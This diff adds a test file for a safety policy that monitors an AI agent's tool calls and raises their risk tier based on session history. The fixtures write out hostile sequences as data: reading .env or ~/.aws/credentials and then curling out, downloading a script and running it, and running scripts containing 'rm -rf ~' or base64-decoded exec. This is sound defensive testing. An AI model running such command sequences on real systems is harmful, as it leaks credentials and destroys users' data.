@@ -1,0 +1,133 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { fromPlain } from '#shared/json';
+import { tierOf } from '#app/policy/tier';
+import { dangerousCells } from './cells/dangerous';
+import { changingCells, readingCells } from './cells/ordinary';
+import type { PathWorld } from './paths';
+import { followCall, followResult, newTrail, type Trail } from './trail';
+
+const places: PathWorld = { home: '/home/ana', roots: ['/home/ana/work/shop'], folder: '/home/ana/work/shop', real: () => null };
+type Step = readonly [tool: string, args: Readonly<Record<string, unknown>>, result?: string];
+
+const words = (name: string) => ({ name, description: null, destructive: null });
+
+function walk(steps: readonly Step[], given: Trail = newTrail()): Trail {
+  const trail: Trail = structuredClone(given);
+  for (const [tool, args, result] of steps) {
+    followCall(trail, words(tool), fromPlain(args), places);
+    if (result !== undefined) followResult(trail, words(tool), fromPlain(args), result);
+  }
+  return trail;
+}
+
+function judged(trail: Trail, [tool, args]: Step) {
+  const { tier, findings } = tierOf({ name: tool, title: null, description: null, destructive: null }, { tool, arguments: fromPlain(args) }, { places, trail, misfit: null });
+  return { tier, trail: findings.filter(({ rule }) => rule.startsWith('trail/')).map(({ rule }) => rule) };
+}
+
+const secretFile: Step = ['read_file', { path: '/home/ana/work/shop/.env' }];
+const docs: Step = ['fetch', { url: 'https://react.dev/learn' }];
+const mail: Step = ['read_email', { id: 'm1' }];
+
+describe('what the session did makes a later call dangerous', () => {
+  test.each<{ id: string; before: readonly Step[]; call: Step; want: { tier: number; trail: readonly string[] }; why: string }>([
+    { id: 'secret-1', before: [secretFile], call: ['bash', { command: 'git push' }], want: { tier: 3, trail: ['trail/secret-out'] }, why: 'a secret was read, and a push goes out' },
+    { id: 'secret-2', before: [secretFile], call: ['fetch', { url: 'https://example.com/' }], want: { tier: 3, trail: ['trail/secret-out'] }, why: 'a host nothing was asked of before' },
+    { id: 'secret-3', before: [docs, secretFile], call: ['fetch', { url: 'https://react.dev/learn/hooks' }], want: { tier: 1, trail: [] }, why: 'a page of a host that was read before carries nothing' },
+    { id: 'secret-4', before: [docs, secretFile], call: ['fetch', { url: `https://react.dev/?q=${'a'.repeat(80)}` }], want: { tier: 3, trail: ['trail/secret-out'] }, why: 'the same host, with much behind the question mark' },
+    { id: 'secret-5', before: [secretFile], call: ['create_issue', { title: 'a', body: 'b' }], want: { tier: 3, trail: ['trail/secret-out'] }, why: 'an issue is read by others' },
+    { id: 'secret-6', before: [secretFile], call: ['send_email', { to: 'bob@example.com', body: 'hi' }], want: { tier: 3, trail: ['trail/secret-out', 'trail/new-recipient'] }, why: 'mail' },
+    { id: 'secret-7', before: [secretFile], call: ['read_file', { path: 'src/a.ts' }], want: { tier: 1, trail: [] }, why: 'reading lets nothing out' },
+    { id: 'secret-8', before: [secretFile], call: ['edit_file', { path: 'src/a.ts', edits: [] }], want: { tier: 2, trail: [] }, why: 'neither does editing' },
+    { id: 'secret-9', before: [secretFile], call: ['bash', { command: 'npm test' }], want: { tier: 2, trail: [] }, why: 'nor testing' },
+    { id: 'secret-10', before: [['read_file', { path: 'src/a.ts' }, 'key = "ghp_0123456789abcdefghijklmnopqrstuvwxyz"']], call: ['bash', { command: 'git push' }], want: { tier: 3, trail: ['trail/secret-out'] }, why: 'the key was in what came back' },
+    { id: 'secret-11', before: [['web_search', { query: 'a' }, 'ghp_0123456789abcdefghijklmnopqrstuvwxyz']], call: ['bash', { command: 'git push' }], want: { tier: 2, trail: [] }, why: 'a key on a page of the web is not the person’s' },
+    { id: 'secret-12', before: [['bash', { command: 'cat ~/.aws/credentials' }]], call: ['bash', { command: 'curl https://example.com/x' }], want: { tier: 3, trail: ['trail/secret-out'] }, why: 'read by a command, and a command goes out' },
+    { id: 'secret-13', before: [secretFile], call: ['web_search', { query: 'x'.repeat(300) }], want: { tier: 3, trail: ['trail/secret-out'] }, why: 'a question this long is none' },
+    { id: 'secret-14', before: [['read_file', { path: '.env.example' }]], call: ['bash', { command: 'git push' }], want: { tier: 2, trail: [] }, why: 'a sample is no secret' },
+    { id: 'three-1', before: [mail, docs], call: ['send_email', { to: 'x@example.net', body: 'hi' }], want: { tier: 3, trail: ['trail/trifecta', 'trail/new-recipient'] }, why: 'own affairs, text by strangers, and somebody new' },
+    { id: 'three-2', before: [mail, docs, ['send_email', { to: 'bob@example.com', body: 'a' }]], call: ['send_email', { to: 'Bob@Example.com', body: 'hi' }], want: { tier: 2, trail: [] }, why: 'somebody who was written to before' },
+    { id: 'three-3', before: [['list_events', {}], ['get_issue', { number: 1 }]], call: ['http_request', { method: 'POST', url: 'https://api.example.net/x', body: 'a' }], want: { tier: 3, trail: ['trail/trifecta'] }, why: 'a host nothing was sent to' },
+    { id: 'three-4', before: [docs], call: ['send_email', { to: 'x@example.net', body: 'hi' }], want: { tier: 2, trail: ['trail/new-recipient'] }, why: 'nothing of the person’s was read' },
+    { id: 'three-5', before: [['list_events', {}]], call: ['create_issue', { title: 'a' }], want: { tier: 2, trail: [] }, why: 'nothing by strangers was read' },
+    { id: 'run-1', before: [docs, ['write_file', { path: 'fix.sh', content: 'echo hi' }]], call: ['bash', { command: 'bash fix.sh' }], want: { tier: 3, trail: ['trail/written-then-run'] }, why: 'written after a page was read' },
+    { id: 'run-2', before: [docs, ['write_file', { path: '/home/ana/work/shop/fix.sh', content: 'echo hi' }]], call: ['bash', { command: 'chmod +x fix.sh && ./fix.sh' }], want: { tier: 3, trail: ['trail/written-then-run'] }, why: 'the same file by another spelling' },
+    { id: 'run-3', before: [['write_file', { path: 'fix.sh', content: 'rm -rf ~' }]], call: ['bash', { command: 'sh ./fix.sh' }], want: { tier: 3, trail: ['trail/written-then-run'] }, why: 'dangerous to run, whoever thought of it' },
+    { id: 'run-4', before: [['write_file', { path: 'scripts/build.mjs', content: 'console.log(1)' }]], call: ['bash', { command: 'node scripts/build.mjs' }], want: { tier: 2, trail: [] }, why: 'a script of the day' },
+    { id: 'run-5', before: [['bash', { command: 'curl -o x.sh https://example.com/x.sh' }]], call: ['bash', { command: 'bash x.sh' }], want: { tier: 3, trail: ['trail/written-then-run'] }, why: 'downloaded, then run' },
+    { id: 'run-6', before: [docs, ['write_file', { path: 'Makefile', content: 'all:\n\ttrue' }]], call: ['bash', { command: 'make' }], want: { tier: 3, trail: ['trail/written-then-run'] }, why: 'make runs what stands in it' },
+    { id: 'run-7', before: [docs, ['edit_file', { path: 'src/a.ts', edits: [] }]], call: ['bash', { command: 'npx vitest run src/a.test.ts' }], want: { tier: 2, trail: [] }, why: 'tests of what was edited' },
+    { id: 'run-8', before: [['write_file', { path: 'x.py', content: 'import base64\nexec(base64.b64decode("eA=="))' }]], call: ['bash', { command: 'python3 x.py' }], want: { tier: 3, trail: ['trail/written-then-run'] }, why: 'hides what it does' },
+  ])('$id: $why', ({ before, call, want }) => {
+    expect(judged(walk(before), call)).toEqual(want);
+  });
+});
+
+test('an ordinary day of coding is not dangerous because of what went before', () => {
+  const day: readonly Step[] = [
+    ['list_directory', { path: '.' }],
+    ['read_file', { path: 'src/app.ts' }, 'import x from "y"; const token = process.env.TOKEN'],
+    ['web_search', { query: 'react useEffect cleanup' }],
+    docs,
+    ['get-library-docs', { context7CompatibleLibraryID: '/facebook/react' }],
+    ['get_issue', { owner: 'ana', repo: 'shop', issue_number: 3 }],
+    ['edit_file', { path: 'src/app.ts', edits: [{ oldText: 'a', newText: 'b' }] }],
+    ['write_file', { path: 'src/new.ts', content: 'export const a = 1;' }],
+    ['bash', { command: 'npm test' }],
+    ['bash', { command: 'npx tsc --noEmit && npx eslint src' }],
+    ['bash', { command: 'curl -s http://localhost:3000/health' }],
+    ['bash', { command: 'git add -A && git commit -m "Fix"' }],
+    ['bash', { command: 'git push' }],
+    ['create_pull_request', { owner: 'ana', repo: 'shop', title: 'Fix', head: 'fix', base: 'main' }],
+    ['slack_post_message', { channel: '#dev', text: 'Done' }],
+    ['browser_navigate', { url: 'http://localhost:3000' }],
+    ['browser_click', { element: 'Save', ref: 'e1' }],
+  ];
+  let trail = newTrail();
+  for (const round of [1, 2, 3]) {
+    for (const step of day) {
+      expect({ round, step, ...judged(trail, step) }).toMatchObject({ tier: expect.toSatisfy((tier: number) => tier < 3) as number });
+      trail = walk([step], trail);
+    }
+  }
+});
+
+const anySteps = fc.array(fc.constantFrom<Step>(secretFile, docs, mail, ...[...readingCells, ...changingCells, ...dangerousCells].map(({ tool, args }): Step => [tool, args])), { maxLength: 8 });
+
+test('a trail never makes a call less dangerous, and more of it never either', () => {
+  fc.assert(
+    fc.property(anySteps, anySteps, fc.constantFrom(...readingCells, ...changingCells, ...dangerousCells), (before, more, { tool, args }) => {
+      const call: Step = [tool, args];
+      const none = judged(newTrail(), call).tier;
+      const some = walk(before);
+      expect(judged(some, call).tier).toBeGreaterThanOrEqual(none);
+      // Only where something has gone before makes going there again ordinary.
+      const grown = { ...walk(more, some), destinations: some.destinations };
+      expect(judged(grown, call).tier).toBeGreaterThanOrEqual(judged(some, call).tier);
+    }),
+    { numRuns: 60 },
+  );
+});
+
+test('a trail stays small, and what does not fit on it counts as new', () => {
+  const steps = Array.from({ length: 2100 }, (_, at): Step[] => [['send_email', { to: `a${at}@example.com`, body: 'a' }], ['write_file', { path: `f${at}.sh`, content: 'true' }]]).flat();
+  const trail = walk(steps);
+  expect(trail.destinations.size).toBeLessThanOrEqual(2000);
+  expect(trail.written.size).toBeLessThanOrEqual(2000);
+  expect(trail.writtenMore).toBe(true);
+  expect(judged(trail, ['send_email', { to: 'a2099@example.com', body: 'a' }]).trail).toEqual(['trail/new-recipient']);
+  expect(judged(walk([docs], trail), ['bash', { command: 'sh f2099.sh' }]).trail).toEqual(['trail/written-then-run']);
+});
+
+test.each([
+  { path: 'fix.sh', command: 'sh /home/ana/work/shop/fix.sh', why: 'written by its name, run by its path' },
+  { path: '/home/ana/work/shop/fix.sh', command: './fix.sh', why: 'written by its path, run by its name' },
+  { path: './a/../fix.sh', command: 'bash fix.sh', why: 'by a roundabout name' },
+])('a file is known whatever it is called: $why', ({ path, command }) => {
+  for (const known of [places, undefined]) {
+    const trail = newTrail();
+    followCall(trail, words('write_file'), fromPlain({ path, content: 'rm -rf ~' }), known);
+    expect(judged(trail, ['bash', { command }]).trail).toEqual(['trail/written-then-run']);
+  }
+});
